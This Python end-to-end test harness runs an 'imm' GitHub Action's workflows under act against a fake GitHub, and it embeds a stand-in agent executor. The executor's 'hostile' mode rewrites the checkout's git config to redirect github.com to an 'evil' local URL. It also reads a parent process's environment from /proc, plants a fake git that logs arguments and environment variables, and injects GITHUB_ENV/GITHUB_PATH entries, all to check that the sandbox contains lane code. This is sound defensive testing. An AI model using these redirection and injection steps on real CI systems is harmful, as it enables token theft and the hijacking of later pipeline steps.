"""A world for running the shipped workflows with act: a repository on a token-checking git
host, the fake GitHub, and act in host mode with stand-ins for the remote actions.

The workflows run as shipped (the repository under test holds this project's action.yml,
action/, src/ and .github/workflows/ verbatim). What act cannot do is done here, each noted in
docs/decisions (act workarounds): act reports no jobs to an API, so the world reads act's log
as it runs and tells the fake GitHub which jobs each run had and how each ended, named as GitHub
names them; and a dispatch does not start a run, so the world runs every dispatch the fake
recorded, in turn, as GitHub would.
"""

from __future__ import annotations

import contextlib
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

from ruamel.yaml import YAML

from imm_action.scaffold.pins import PINS, pinned
from tests.batch_helpers import file_check
from tests.conftest import initiative_files, intent
from tests.fake_github import FakeGitHub
from tests.git_http_remote import GitHttpRemote, auth_header
from tests.webhook_examples import example

PROJECT = Path(__file__).resolve().parents[2]
STAND_INS = Path(__file__).resolve().parent / "stand_ins"
REPO = "acme/shop"
TOKEN = "ghs_e2eSecretToken0123456789abcdef"  # must never reach an executor
SHIPPED = ("action.yml", "action", "pyproject.toml", "README.md", "src", ".github/workflows")
ACT_TIMEOUT_S = 300

# act prints one line per job when it ends: "[<workflow>/<job name>] 🏁  Job succeeded".
_JOB_START = re.compile(r"^\[(?P<workflow>[^/\]]+)/(?P<job>[^\]]+)\] ⭐ Run Set up job")
_JOB_END = re.compile(r"^\[(?P<workflow>[^/\]]+)/(?P<job>[^\]]+)\] 🏁  Job (?P<result>\w+)")
_STEP_FAILED = re.compile(r"^\[(?P<workflow>[^/\]]+)/(?P<job>[^\]]+)\]   ❌  Failure - ")
# a step output as act logs it: "[imm-batch/plan] ⚙  ::set-output:: <name>=<value>"
_OUTPUT = re.compile(r"^\[imm-batch/plan\s*\]\s+⚙\s+::set-output:: (?P<name>[\w-]+)=(?P<value>.*)$")
_FROM_PLAN = re.compile(r"fromJSON\(needs\.plan\.outputs\.(?P<name>[\w-]+)\)")
# Go's words when act 0.2.89 dies of its own race (ActWorld.concurrent_jobs): "... map read and
# map write", "... map writes" or "... map iteration and map write"
_ACT_RACE = "fatal error: concurrent map "


def act_crash(log: str) -> str | None:
    """Why a run ended, when act itself died of its known race rather than imm failing: the run
    proves nothing about imm then, and the failure says so instead of an assertion about jobs."""
    if _ACT_RACE not in log:
        return None
    return (
        "act itself crashed (Go: a concurrent map access): act 0.2.89 resolves the "
        "--local-repository actions of side-by-side matrix jobs unguarded (nektos/act#6055); "
        "nothing imm did"
    )


EXECUTOR = '''\
"""The e2e executor: writes <task>.txt; dumps its environment; behaviours by task:
ok (default), fail (always wrong), broken (its own file, saying `broken` too), costs (ok, and
ends with an agent's report of 25 cents), network (asks for each URL of IMM_E2E_NET and records
what came back in `network.<task>.json`), kill_once (has
the test kill its `imm lane` on the first attempt), hostile (also tries to point the
checkout's git at another host and to write its step's GITHUB_ENV and GITHUB_PATH — a fake git
that records how it was called — and records what it could do in `hostile.<task>.json`)."""
import json, os, pathlib, shutil, signal, sys, time

task, attempt = os.environ["IMM_TASK_ID"], os.environ["IMM_ATTEMPT"]
spy = pathlib.Path(os.environ["IMM_E2E_SPY"])
(spy / f"env.{task}.{attempt}.{os.getpid()}.json").write_text(json.dumps(dict(os.environ)))
behaviour = json.loads(os.environ.get("IMM_E2E_BEHAVIOUR", "{}")).get(task, "ok")
def lane_process():
    """The `imm lane --phase work` this executor runs under (an ancestor, not always the parent)."""
    pid = os.getppid()
    while pid > 1:
        if b"--phase\\x00work" in pathlib.Path(f"/proc/{pid}/cmdline").read_bytes():
            return pid
        pid = int(pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
    raise SystemExit("no imm lane above me")
if behaviour == "kill_once" and not (spy / f"killed.{task}").exists():
    # the lane job dies (its runner is lost): the sandbox shows no process of imm's, so the
    # test's watcher (ActWorld.act) kills `imm lane` when it finds this file
    (spy / f"kill-me.{task}").write_text("once")
    time.sleep(120)
    sys.exit(9)
if behaviour == "hang":  # an agent that never ends: its lane's limit must stop it
    time.sleep(3600)
if behaviour == "hostile":  # goes for the steps of its job that run after it (ADR 0026)
    tried = {}
    # the tree is seen at a path of the sandbox's own (ADR 0069): the checkout is not in sight
    checkout = next((p.parent for p in pathlib.Path.cwd().parents if p.name == ".git"), None)
    evil = os.environ["IMM_E2E_EVIL"]
    try:
        if checkout is None:
            raise FileNotFoundError("no checkout above the tree")
        with (checkout / ".git" / "config").open("a") as config:  # longer than the runner's rule
            config.write(f'[url "{evil}/"]\\n\\tinsteadOf = https://github.com/acme/\\n')
        tried["git config"] = "wrote"
    except OSError as error:
        tried["git config"] = type(error).__name__
    try:
        files = dict(
            line.split("=", 1)
            for line in pathlib.Path(f"/proc/{lane_process()}/environ").read_text().split("\\0")
            if line.startswith(("GITHUB_ENV=", "GITHUB_PATH="))
        )
    except (OSError, SystemExit) as error:
        files = {}
        tried["job files"] = f"not found: {error}"
    bin_dir = spy / "evil-bin"
    bin_dir.mkdir(exist_ok=True)
    fake_git = bin_dir / "git"
    fake_git.write_text(
        f"#!{sys.executable}\\nimport json, os, sys, uuid\\n"
        f"open({str(spy)!r} + f'/fake-git.{{uuid.uuid4()}}.json', 'w').write("
        "json.dumps({'argv': sys.argv, 'env': dict(os.environ)}))\\n"
        f"os.execv({shutil.which('git')!r}, ['git', *sys.argv[1:]])\\n"
    )
    fake_git.chmod(0o755)
    for name, line in (("GITHUB_PATH", f"{bin_dir}\\n"),
                       ("GITHUB_ENV", f"GIT_CONFIG_COUNT=1\\nGIT_CONFIG_KEY_0=url.{evil}/"
                                      ".insteadOf\\nGIT_CONFIG_VALUE_0=https://github.com/acme/\\n")):
        try:
            with open(files.get(name) or os.environ.get(name) or "/nonexistent", "a") as handle:
                handle.write(line)
            tried[name] = "wrote"
        except OSError as error:
            tried[name] = type(error).__name__
    (spy / f"hostile.{task}.json").write_text(json.dumps(tried))
if behaviour == "network":  # asks, through the proxy it is given, for each URL (issue 60)
    import urllib.request
    said = {}
    for url in json.loads(os.environ.get("IMM_E2E_NET", "[]")):
        try:
            said[url] = urllib.request.urlopen(url, timeout=10).read().decode()
        except Exception as error:
            said[url] = f"not reached: {error}"
    (spy / f"network.{task}.json").write_text(json.dumps(said))
if behaviour == "attack":  # a lane-written script its check runs at integration (issue 20)
    shutil.copy("tools/attack.py", f"{task}_attack.py")
text = {"fail": "wrong\\n", "broken": f"{task}\\nbroken\\n"}.get(behaviour, f"{task}\\n")
pathlib.Path(f"{task}.txt").write_text(text)
if behaviour == "costs":  # ends as Claude Code's `--output-format json` does (issue 45)
    print(json.dumps({"type": "result", "subtype": "success", "is_error": False,
                      "total_cost_usd": 0.25, "num_turns": 4, "session_id": f"s-{task}",
                      "usage": {"input_tokens": 1000, "output_tokens": 200}}))
'''

CONFIG = """\
# imm settings of the e2e repository
max_parallel: 4
executor: python3 tools/executor.py
qa_failure_limit: 2
lane_timeout_minutes: 10
"""


def github_job_name(act_name: str) -> str:
    """The name GitHub gives a job that act logs as `act_name`: act pads names to align its
    log and suffixes matrix jobs with "-<n>" when a matrix has several entries."""
    name = act_name.strip()
    return re.sub(r"^(imm lane \S+)-[0-9]+$", r"\1", name)


@dataclass
class ActRun:
    event: str
    workflow: str
    run_id: int
    exit_code: int
    jobs: dict[str, str]  # job name -> "succeeded" / "failed" / "cancelled"
    log: str


def stand_in_arguments() -> list[str]:
    """act maps a remote action to a folder only at its exact reference (act 0.2.89): each of
    GitHub's actions at the commit imm pins it to (scaffold/pins.py)."""
    arguments = []
    for action in PINS:
        folder = STAND_INS / action.removeprefix("actions/")
        arguments += ["--local-repository", f"{pinned(action)}={folder}"]
    return arguments


@dataclass
class ActWorld:
    """One repository: its bare copy on the git host, a user's clone (act's working directory),
    its twin on the fake GitHub, and the files act reads."""

    root: Path
    home: Path
    host: GitHttpRemote
    github: FakeGitHub
    behaviour: dict[str, str] = field(default_factory=dict)
    evil_url: str = "http://127.0.0.1:9"  # where a hostile executor sends git (see test)
    env: dict[str, str] = field(default_factory=dict)  # more of act's (and its steps') environment
    runs: list[ActRun] = field(default_factory=list)
    _dispatches_run: int = 0
    # GitHub's job limit, which act ignores: lane jobs running, by task, since when; the plan
    # job's step outputs of the current run; the lane jobs the limit ended
    _lane_jobs: dict[str, float] = field(default_factory=dict)
    _plan_outputs: dict[str, str] = field(default_factory=dict)
    timed_out_jobs: list[str] = field(default_factory=list)
    # Cancel the run (as the Actions UI's "Cancel workflow" does) once this many lane jobs
    # succeeded: GitHub ends every lane job still running or queued as `cancelled`, and then
    # runs the jobs that ask for it (`if: always()`: the integrate job).
    cancel_after_lanes: int | None = None
    # Kill the run outright once this many lane jobs succeeded (a force-cancel, or the run's
    # machines lost): no integrate job runs; its jobs end `cancelled`, as GitHub records them.
    kill_run_after_lanes: int | None = None
    # Kill the first verify job's `imm verify --phase run` once it has run its checks this
    # long (its runner is lost mid-shard): no verdict of it ever goes up.
    kill_verify_after_s: float | None = None
    killed_verify: list[str] = field(default_factory=list)  # the shards killed
    # act's --concurrent-jobs. One at a time by default: act 0.2.89 reads and writes the map
    # of its --local-repository actions from parallel jobs unguarded and dies of it now and then
    # ("fatal error: concurrent map read and map write", nektos/act#6055, #6138, unreleased),
    # which failed test_verify_fan_out.py once. GitHub runs every job of a matrix side by side;
    # a benchmark that measures that sets its own figure and accepts the risk. This bounds the
    # jobs of a stage, not a matrix's entries: act runs those by the job's `max-parallel`. The
    # lanes' is an expression act cannot evaluate ("Failed to parse 'max-parallel' option" in
    # its log), so lanes run one by one in the plan's order; the verify jobs' is 64, so they run
    # side by side and the race above can still end a run with verify jobs (nektos/act#6055).
    concurrent_jobs: int | None = 1
    act_timeout_s: float = ACT_TIMEOUT_S  # a run still going then is killed (a test hangs no CI)
    # (time.monotonic(), line) of every line act wrote, when a benchmark asks for it
    timeline: list[tuple[float, str]] | None = None
    _act: subprocess.Popen[str] | None = None
    _killed_run: int | None = None
    _cancelled_run: int | None = None
    _lanes_succeeded: int = 0
    # The step each job failed first, by job name; why a run was cut short (see _premise_broken)
    _failed_steps: dict[str, str] = field(default_factory=dict)
    _broken_premise: str | None = None

    @property
    def work(self) -> Path:
        return self.root / "work"

    @property
    def spy(self) -> Path:
        return self.root / "spy"

    @property
    def evidence(self) -> Path:
        """Where lane code attacking from the sandbox writes what it found: with `spy`, the
        only folders it may write (the operator's IMM_SANDBOX_WRITABLE)."""
        folder = self.root / "evidence"
        folder.mkdir(parents=True, exist_ok=True)
        return folder

    @property
    def artifacts(self) -> Path:
        return self.root / "artifacts"

    @property
    def bare(self) -> Path:
        return self.host.root / REPO

    # -- arranging ---------------------------------------------------------------------------
    def create(
        self,
        tasks: Mapping[str, list[str]],
        slug: str,
        *,
        local: bool = True,
        checks: Mapping[str, str] | None = None,
        config: str = "",
        files: Mapping[str, str] | None = None,
    ) -> None:
        """The repository with the shipped action and workflows, a config naming the e2e
        executor (and `config`'s lines), and (when `local`) the initiative in docs/initiatives/.
        `checks`: a task's descriptor instead of the default file check (its scope then takes
        `<task>_attack.py` too); `files`: more files of the base."""
        self.spy.mkdir(parents=True)
        self.bare.parent.mkdir(parents=True)
        self._git(self.host.root, "init", "-q", "--bare", "-b", "main", str(self.bare))
        self._git(self.bare, "config", "http.receivepack", "true")
        self._write_gitconfig()
        self._git(self.root, *self._auth(), "clone", "-q", f"https://github.com/{REPO}",
                  str(self.work))  # fmt: skip
        for name in SHIPPED:
            source, target = PROJECT / name, self.work / name
            if source.is_dir():
                shutil.copytree(source, target, ignore=shutil.ignore_patterns("__pycache__"))
            else:
                target.parent.mkdir(parents=True, exist_ok=True)
                shutil.copy2(source, target)
        more = dict(files or {})
        files = initiative_files(slug, tasks, self._intents(tasks, checks or {}))
        if not local:
            files = {k: v for k, v in files.items() if not k.startswith("docs/initiatives/")}
        # a key of `config` replaces the default's
        keys = {line.split(":", 1)[0] for line in config.splitlines() if ":" in line}
        kept = [line for line in CONFIG.splitlines() if line.split(":", 1)[0] not in keys]
        files[".github/imm.yml"] = "\n".join(kept) + "\n" + config
        files["tools/executor.py"] = EXECUTOR
        files.update(more)
        for relative, content in files.items():
            path = self.work / relative
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(str(content), encoding="utf-8")
        self._git(self.work, "add", "-A")
        self._git(self.work, "commit", "-q", "-m", "the project")
        self.push("HEAD:refs/heads/main")
        self._git(self.work, "branch", "-q", "--set-upstream-to=origin/main")
        self._arrange_github()
        (self.root / "empty").write_text("")
        (self.root / "secrets").write_text(f"GITHUB_TOKEN={TOKEN}\n")

    def _intents(
        self, tasks: Mapping[str, list[str]], checks: Mapping[str, str]
    ) -> dict[str, dict[str, Any]]:
        intents = {}
        for task in tasks:
            check = checks.get(task) or file_check(f"{task}.txt", task)
            acceptance = [{"id": "ok", "assertion": f"names {task}", "verification": check}]
            # exact names: globs may overlap, and overlapping scopes never run side by side
            scope = [f"{task}.txt", f"{task}_attack.py"] if task in checks else [f"{task}.txt"]
            intents[task] = intent(task, scope_hint=scope, acceptance=acceptance)
        return intents

    def _write_gitconfig(self) -> None:
        # act derives github.repository from origin only when it looks like github.com's;
        # the host serves it under the same path.
        (self.root / "gitconfig").write_text(
            f'[url "{self.host.base_url}/"]\n\tinsteadOf = https://github.com/\n'
            "[user]\n\tname = E2E Tester\n\temail = e2e@example.com\n"
            "[init]\n\tdefaultBranch = main\n"
            "[advice]\n\tdetachedHead = false\n",
            encoding="utf-8",
        )

    def _arrange_github(self) -> None:
        self.github.add_repo(REPO, {"acme": "admin", "writer": "write", "reader": "read"})
        self.github.state.artifacts_root = self.artifacts  # what the upload stand-in keeps
        for path in sorted((self.work / ".github" / "workflows").glob("imm-*.yml")):
            document = YAML(typ="safe").load(path.read_text(encoding="utf-8"))
            dispatch = document["on"].get("workflow_dispatch") or {}
            inputs = {
                name: bool(spec.get("required"))
                for name, spec in (dispatch.get("inputs") or {}).items()
            }
            self.github.add_workflow(REPO, path.name, document["name"], inputs=inputs)

    def push(self, *refspecs: str, cwd: Path | None = None) -> None:
        self._git(cwd or self.work, *self._auth(), "push", "-q", "origin", *refspecs)

    def _auth(self) -> tuple[str, str]:
        return ("-c", f"http.{self.host.base_url}/.extraheader={auth_header(TOKEN)}")

    def _git(self, cwd: Path, *args: str) -> str:
        return subprocess.run(
            ["git", *args], cwd=cwd, env=self._environment(), check=True,
            capture_output=True, text=True,
        ).stdout  # fmt: skip

    def remote(self, *args: str) -> str:
        """git in the host's bare repository (what GitHub would hold)."""
        return self._git(self.bare, *args)

    # -- running -----------------------------------------------------------------------------
    def _environment(self) -> dict[str, str]:
        # SSL_CERT_*: the host's certificate authorities, which uv (the action's installer)
        # reads from there as pip reads PIP_CERT
        keep = ("PATH", "LANG", "LC_ALL", "TMPDIR", "PIP_", "UV_", "PYTHON", "SSL_CERT_")
        env = {k: v for k, v in os.environ.items() if k.startswith(keep)}
        env.update(
            HOME=str(self.home),
            GIT_CONFIG_GLOBAL=str(self.root / "gitconfig"),
            GIT_CONFIG_NOSYSTEM="1",
            GIT_TERMINAL_PROMPT="0",
            IMM_E2E_SPY=str(self.spy),
            IMM_E2E_BEHAVIOUR=json.dumps(self.behaviour),
            STAND_IN_PYTHON=sys.executable,
            STAND_IN_ARTIFACTS=str(self.artifacts),
            STAND_IN_CACHE=str(self.root / "actions-cache"),  # the cache stand-ins' entries
            IMM_E2E_EVIL=self.evil_url,  # the artifact stand-ins' store, by run id
            IMM_SANDBOX_WRITABLE=f"{self.spy}{os.pathsep}{self.evidence}",
            # the stand-in executors read these: passed as an operator would pass them
            IMM_EXECUTOR_ENV="IMM_E2E_SPY,IMM_E2E_BEHAVIOUR,IMM_E2E_EVIL,IMM_E2E_NET",
        )
        env.update(self.env)
        return env

    def act(self, event: str, workflow: str, payload: dict[str, Any], run_id: int) -> ActRun:
        """One workflow run, as GitHub would start it for `event`; the fake GitHub learns its
        jobs as act starts and ends them."""
        event_file = self.root / f"event-{run_id}.json"
        event_file.write_text(json.dumps(payload), encoding="utf-8")
        env_file = self.root / f"env-{run_id}"
        env_file.write_text(
            f"GITHUB_API_URL={self.github.url}\nGITHUB_GRAPHQL_URL={self.github.url}/graphql\n"
            f"GITHUB_SERVER_URL=https://github.com\nGITHUB_RUN_ID={run_id}\n"
            f"GITHUB_REPOSITORY_ID={self.github.repo(REPO).id}\n",
            encoding="utf-8",
        )
        act = shutil.which("act", path=str(Path(sys.executable).parent)) or "act"
        argv = [
            act, event, "-W", f".github/workflows/{workflow}", "-e", str(event_file),
            "-P", "ubuntu-latest=-self-hosted", "--no-skip-checkout", "--action-offline-mode",
            "--env-file", str(env_file), "--secret-file", str(self.root / "secrets"),
            "--var-file", str(self.root / "empty"), "--input-file", str(self.root / "empty"),
            *stand_in_arguments(),
        ]  # fmt: skip
        if self.concurrent_jobs is not None:
            argv += ["--concurrent-jobs", str(self.concurrent_jobs)]
        lines: list[str] = []
        jobs: dict[str, str] = {}
        log_path = self.root / f"act-{run_id}.log"
        with (
            subprocess.Popen(
                argv, cwd=self.work, env=self._environment(), stdout=subprocess.PIPE,
                stderr=subprocess.STDOUT, text=True, encoding="utf-8", errors="replace",
                start_new_session=True,  # its steps die with it when the world kills the run
            ) as process,
            log_path.open("w", encoding="utf-8") as log,
        ):  # fmt: skip
            self._act, self._killed_run = process, None
            timer = threading.Timer(self.act_timeout_s, process.kill)
            timer.start()
            watching = threading.Event()
            self._lane_jobs.clear()
            self._plan_outputs.clear()
            self._cancelled_run, self._lanes_succeeded = None, 0
            self._failed_steps.clear()
            self._broken_premise = None
            threading.Thread(target=self._kill_lanes_asked, args=(watching,), daemon=True).start()
            threading.Thread(target=self._kill_a_verify_job, args=(watching,), daemon=True).start()
            threading.Thread(target=self._end_jobs_at_their_limit, args=(watching,),
                             daemon=True).start()  # fmt: skip
            try:
                assert process.stdout is not None
                for line in process.stdout:
                    lines.append(line)
                    if self.timeline is not None:
                        self.timeline.append((time.monotonic(), line))
                    log.write(line)
                    log.flush()
                    self._observe(line, run_id, jobs)
                exit_code = process.wait()
            finally:
                timer.cancel()
                watching.set()
        run = ActRun(event, workflow, run_id, exit_code, jobs, "".join(lines))
        proves_nothing = act_crash(run.log) or self._broken_premise
        if proves_nothing is not None:
            raise AssertionError(f"{proves_nothing}; its log: {log_path}")
        self.runs.append(run)
        return run

    def _kill_lanes_asked(self, done: threading.Event) -> None:
        """The lost runner of `kill_once`: SIGKILL to the `imm lane --phase work` of a task
        whose executor asked (`kill-me.<task>` in the spy folder): from the sandbox it sees no
        process of imm's, as lane code should."""
        while not done.wait(0.1):
            for ask in self.spy.glob("kill-me.*"):
                task = ask.name.split(".", 1)[1]
                self._kill_lane_work(task)
                ask.rename(self.spy / f"killed.{task}")

    def _kill_a_verify_job(self, done: threading.Event) -> None:
        """The lost runner of a verify job: SIGKILL, once, to the first `imm verify --phase
        run` seen, `kill_verify_after_s` after it started (its checks are at work then)."""
        seen: dict[int, float] = {}
        while not done.wait(0.1) and self.kill_verify_after_s is not None:
            if self.killed_verify:
                return
            for proc in Path("/proc").iterdir():
                try:
                    argv = (proc / "cmdline").read_bytes().split(b"\0")
                except OSError:
                    continue
                if b"verify" not in argv or b"--phase" not in argv or b"run" not in argv:
                    continue
                if not self._in_this_world(proc):
                    continue
                pid = int(proc.name)
                started = seen.setdefault(pid, time.monotonic())
                if time.monotonic() - started >= self.kill_verify_after_s:
                    with contextlib.suppress(OSError):
                        os.killpg(pid, signal.SIGKILL)  # its checks too, when they lead groups
                    with contextlib.suppress(OSError):
                        os.kill(pid, signal.SIGKILL)
                    self.killed_verify.append(argv[argv.index(b"--shard") + 1].decode())
                    return

    def lane_limit_output(self) -> str | None:
        """The plan job's step output the shipped workflow sets the lane job's
        `timeout-minutes` from (None: a fixed limit, or none)."""
        workflow = YAML(typ="safe").load(
            (self.work / ".github/workflows/imm-batch.yml").read_text(encoding="utf-8")
        )
        jobs = workflow["jobs"]
        expression = str(jobs["lane"].get("timeout-minutes", ""))
        found = _FROM_PLAN.search(expression)
        if found is None:
            return None
        source = str(jobs["plan"]["outputs"][found["name"]])
        return source.rsplit(".", 1)[1].rstrip(" }")

    def _end_jobs_at_their_limit(self, done: threading.Event) -> None:
        """What GitHub does and act does not: a lane job still running at its `timeout-minutes`
        is cancelled. Its `imm lane --phase work` is killed (the executor, in the sandbox, dies
        with it); the job's later `if: always()` steps still run, as on GitHub."""
        # read once a run: parsed on every tick, the workflow cost the test process more CPU
        # than anything else it did (issue 46)
        step_output = self.lane_limit_output()
        while not done.wait(0.2):
            if self._cancelled_run is not None:
                for task in list(self._lane_jobs):
                    self._kill_lane_work(task)
            value = None if step_output is None else self._plan_outputs.get(step_output)
            if value is None:
                continue  # until the plan job said it
            limit = float(value) * 60
            for task, started in list(self._lane_jobs.items()):
                if time.monotonic() - started < limit:
                    continue
                self._lane_jobs.pop(task, None)
                self.timed_out_jobs.append(task)
                self._kill_lane_work(task)

    def _kill_lane_work(self, task: str) -> None:
        for proc in Path("/proc").iterdir():
            try:
                argv = (proc / "cmdline").read_bytes().split(b"\0")
            except OSError:
                continue
            if b"--phase" in argv and b"work" in argv and task.encode() in argv:
                if not self._in_this_world(proc):
                    continue  # another test's world, beside this one in another worker
                with contextlib.suppress(OSError):
                    os.kill(int(proc.name), signal.SIGKILL)

    def _in_this_world(self, proc: Path) -> bool:
        """Whether a process was started by this world's act: its working folder lies in the
        world, or its environment names the world's spy folder. Tests run side by side (xdist):
        a lane `a` of another world must never be the one killed here (it failed an unrelated
        test's run)."""
        with contextlib.suppress(OSError):
            if Path(os.readlink(proc / "cwd")).is_relative_to(self.root):
                return True
        try:
            environ = (proc / "environ").read_bytes().split(b"\0")
        except OSError:
            return False
        return f"IMM_E2E_SPY={self.spy}".encode() in environ

    def _observe(self, line: str, run_id: int, jobs: dict[str, str]) -> None:
        """One line of act's log. act gives every entry of a matrix the result of the last
        one to end ("Job failed" for a lane whose steps all passed), so a job's result is
        read from its own steps: failed iff one of them failed."""
        started, failed, ended = (
            _JOB_START.match(line),
            _STEP_FAILED.match(line),
            _JOB_END.match(line),
        )
        if self._killed_run == run_id:
            return  # what act wrote before it died, read after: GitHub ended those jobs
        output = _OUTPUT.match(line.strip())
        if output:
            self._plan_outputs[output["name"]] = output["value"].strip()
        if started:
            name = github_job_name(started["job"])
            jobs.pop(name, None)
            if name.startswith("imm lane "):
                self._lane_jobs[name.removeprefix("imm lane ")] = time.monotonic()
            self._record_job(run_id, name, "in_progress", None)
        elif failed:
            name = github_job_name(failed["job"])
            jobs[name] = "failed"
            self._failed_steps.setdefault(name, line.split("❌", 1)[1].strip())
        elif ended:
            name = github_job_name(ended["job"])
            self._lane_jobs.pop(name.removeprefix("imm lane "), None)
            jobs[name] = jobs.get(name, "succeeded")
            conclusion = "success" if jobs[name] == "succeeded" else "failure"
            if name.startswith("imm lane ") and self._cancelled_run is not None:
                conclusion = jobs[name] = "cancelled"
            self._record_job(run_id, name, "completed", conclusion)
            if name.startswith("imm lane ") and conclusion == "success":
                self._lanes_succeeded += 1
                if self._lanes_succeeded == self.cancel_after_lanes:
                    self._cancelled_run = run_id
                if self._lanes_succeeded == self.kill_run_after_lanes:
                    self._kill_run(run_id)
            elif name.startswith("imm lane ") and conclusion == "failure":
                self._premise_broken(run_id, name)

    def _premise_broken(self, run_id: int, name: str) -> None:
        """A lane job failed while the scenario waits for lanes to succeed (cancel_after_lanes,
        kill_run_after_lanes): the lanes after it hang by design, so act would run to its
        limit and the test fail later for another reason. The run ends now, and the test fails
        naming the job and the step that failed."""
        wanted = self.cancel_after_lanes or self.kill_run_after_lanes
        if wanted is None or self._lanes_succeeded >= wanted:
            return  # (a run cancelled or killed at `wanted` ends its lanes as it means to)
        step = self._failed_steps.get(name, "no step said it failed")
        self._broken_premise = (
            f"{name} failed ({step}) when the scenario needed {wanted} lane jobs to succeed "
            f"first ({self._lanes_succeeded} had): the run was ended, not left to act's limit"
        )
        self._end_act(run_id)

    def _kill_run(self, run_id: int) -> None:
        """The run dies with its lanes at work: act and every lane's `imm lane` are killed; the
        jobs that had not ended, and those that never started, end `cancelled`."""
        self._end_act(run_id)
        ended = {
            job["name"]
            for job in self.github.repo(REPO).jobs.values()
            if job["run_id"] == run_id and job["status"] == "completed"
        }
        for child in self.state()["children"]:
            name = f"imm lane {child['task_id']}"
            if child["state"] == "lane_admitted" and name not in ended:
                self._record_job(run_id, name, "completed", "cancelled")

    def _end_act(self, run_id: int) -> None:
        """act and every lane's `imm lane` of the run killed; what act wrote after is ignored."""
        self._killed_run = run_id
        for task in list(self._lane_jobs):
            self._kill_lane_work(task)
        if self._act is not None:
            with contextlib.suppress(OSError):
                os.killpg(self._act.pid, signal.SIGKILL)

    def _record_job(self, run_id: int, name: str, status: str, conclusion: str | None) -> None:
        """Tell the fake what GitHub's jobs endpoint would now say about job `name`."""
        repo = self.github.repo(REPO)
        if run_id not in repo.runs:
            return  # a run GitHub starts for an event: nothing in imm asks for its jobs
        with self.github._lock:
            found = [i for i, j in repo.jobs.items() if j["run_id"] == run_id and j["name"] == name]
        job_id = found[0] if found else self.github.add_job(REPO, run_id, name)
        self.github.move_job(REPO, job_id, status, conclusion)
        with self.github._lock:
            repo.runs[run_id]["status"] = "in_progress"

    def _finish_run(self, run: ActRun) -> None:
        with self.github._lock:
            stored = self.github.repo(REPO).runs[run.run_id]
            stored["status"] = "completed"
            stored["conclusion"] = "success" if run.exit_code == 0 else "failure"
            if run.run_id in (self._cancelled_run, self._killed_run):
                stored["conclusion"] = "cancelled"

    def dispatch(self, inputs: Mapping[str, str]) -> None:
        """A person starts imm-batch.yml by hand (the Actions tab, or the API)."""
        from imm_action.github.client import GitHubClient
        from imm_action.github.transport import build_github

        client = GitHubClient(build_github(TOKEN, self.github.url), REPO)
        client.dispatch("imm-batch.yml", "main", dict(inputs))

    def run_dispatches(self, limit: int = 12) -> list[ActRun]:
        """Run every dispatch the fake recorded, in turn, until none is left (GitHub starts
        a run for each dispatch)."""
        done: list[ActRun] = []
        for _ in range(limit):
            pending = self._next_dispatch()
            if pending is None:
                return done
            done.append(self._run(*pending))
        raise AssertionError(f"still dispatching after {limit} runs")

    def _run(self, run_id: int, dispatch: dict[str, Any]) -> ActRun:
        payload = {
            "ref": f"refs/heads/{dispatch['ref']}", "inputs": dispatch["inputs"],
            "repository": {"full_name": REPO, "name": "shop", "owner": {"login": "acme"}},
            "sender": {"login": "acme"}, "workflow": dispatch["workflow"],
        }  # fmt: skip
        workflow = dispatch["workflow"].rsplit("/", 1)[1]
        run = self.act("workflow_dispatch", workflow, payload, run_id)
        self._finish_run(run)
        return run

    def replace_pending_run(self) -> None:
        """GitHub cancels an older *pending* run of a concurrency group when a newer one queues:
        the next recorded dispatch never runs."""
        pending = self._next_dispatch()
        assert pending is not None, "no pending run to replace"
        with self.github._lock:
            run = self.github.repo(REPO).runs[pending[0]]
            run["status"], run["conclusion"] = "completed", "cancelled"

    def run_dispatch(self) -> ActRun:
        """Run the next recorded dispatch only (the rest stay queued)."""
        pending = self._next_dispatch()
        assert pending is not None, "nothing dispatched"
        return self._run(*pending)

    def _next_dispatch(self) -> tuple[int, dict[str, Any]] | None:
        repo = self.github.repo(REPO)
        dispatches = list(repo.dispatches)
        if self._dispatches_run >= len(dispatches):
            return None
        dispatched_runs = sorted(
            run_id for run_id, run in repo.runs.items() if run["event"] == "workflow_dispatch"
        )
        index = self._dispatches_run
        self._dispatches_run += 1
        return dispatched_runs[index], dispatches[index]

    def new_run_id(self) -> int:
        """The id GitHub gives a run it starts for an event (not a dispatch)."""
        return self.github.state.next_id()

    def tracker(self, slug: str, tasks: Mapping[str, list[str]]) -> int:
        """The initiative as a tracker issue with one sub-issue per task and blocked-by links
        (the immune-brain tracker protocol); returns the initiative issue's number."""
        parent = self.github.add_tracker_initiative(REPO, slug)
        numbers = {task: self.github.add_tracker_task(REPO, parent, slug, task) for task in tasks}
        for task, needs in tasks.items():
            for need in needs:
                self.github.link_blocked_by(REPO, numbers[task], numbers[need])
        return parent

    def comment(self, issue: int, body: str, login: str) -> ActRun:
        """`login` comments `body` on `issue`: GitHub runs imm-command.yml for the event."""
        repo = self.github.repo(REPO)
        with self.github._lock:
            posted = self.github.state.new_comment(repo, repo.issues[issue], body, login)
        payload = example("issue_comment.created")
        payload["comment"] |= {"id": posted["id"], "body": body}
        payload["comment"]["user"]["login"] = payload["sender"]["login"] = login
        payload["issue"] |= {"number": issue, "body": repo.issues[issue]["body"]}
        payload["repository"] |= {"full_name": REPO, "name": "shop", "default_branch": "main"}
        payload["ref"] = "refs/heads/main"
        return self.act("issue_comment", "imm-command.yml", payload, self.new_run_id())

    def state(self) -> dict[str, Any]:
        """The newest batch's state as the remote holds it, read by imm's own state store."""
        from imm_action.git.refs import LocalRefStore
        from imm_action.git.repo import GitRepo
        from imm_action.integrate.store import StateStore

        batches = StateStore(LocalRefStore(GitRepo(self.bare))).all_batches()
        assert batches, "no batch on the remote"
        newest = max(batches, key=lambda batch: batch.state.updated_at)
        state: dict[str, Any] = json.loads(newest.state.model_dump_json())
        return state

    def executor_environments(self) -> Iterator[dict[str, str]]:
        for path in sorted(self.spy.glob("env.*.json")):
            yield json.loads(path.read_text(encoding="utf-8"))
